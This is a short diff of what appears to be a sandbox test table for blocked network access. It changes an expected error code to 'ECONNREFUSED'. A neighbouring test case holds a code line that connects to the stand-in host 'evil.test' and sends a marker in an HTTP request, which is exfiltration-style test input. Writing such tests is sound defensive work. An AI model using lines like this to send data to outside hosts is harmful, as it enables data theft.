@@ -63,7 +63,7 @@ stream.connect("\\0" + facts["abstract"])
 stream.sendall(mark.encode())
 time.sleep(0.1)
 """,
-        "EPERM",
+        "ECONNREFUSED",
     ),
     "a name in the clear": (
         "connect('evil.test', facts['http']).sendall(f'GET /{mark} HTTP/1.1\\r\\n\\r\\n'.encode()); time.sleep(0.1)",
